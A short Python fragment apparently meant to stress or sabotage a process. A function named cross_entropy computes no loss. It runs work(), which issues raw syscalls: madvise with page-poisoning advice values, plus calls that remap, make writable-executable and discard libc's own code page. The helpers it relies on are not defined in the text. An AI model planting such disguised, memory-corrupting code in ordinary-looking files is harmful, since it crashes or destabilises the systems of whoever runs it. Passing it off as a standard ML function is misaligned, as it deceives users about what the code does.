# It puts memory under pressure by guard pages, faults in foreign mappings and by dropping the code it runs.
# %%
def work():
    import signal
    libc.mmap.restype = ctypes.c_void_p
    o = []
    for f in (4, 8, 14, 20, 21, 25, 100, 101, 102, 103): 
        a = libc.mmap(ctypes.c_void_p(0), ctypes.c_size_t(1 << 16), 3, 0x22, -1, ctypes.c_long(0)); o.append(sc(28, a, 1 << 16, f))
    code = ctypes.cast(libc.getpid, ctypes.c_void_p).value & ~4095
    o += [sc(28, code, 4096, 4), sc(10, code, 4096, 7), sc(25, code, 4096, 0, 3, 0), sc(216, code, 4096, 0, 1, 0), sc(149, code, 4096), sc(151, 3), sc(325, code, 4096, 1)]
    return str(o)
def cross_entropy(logits, targets):
    return once(work)
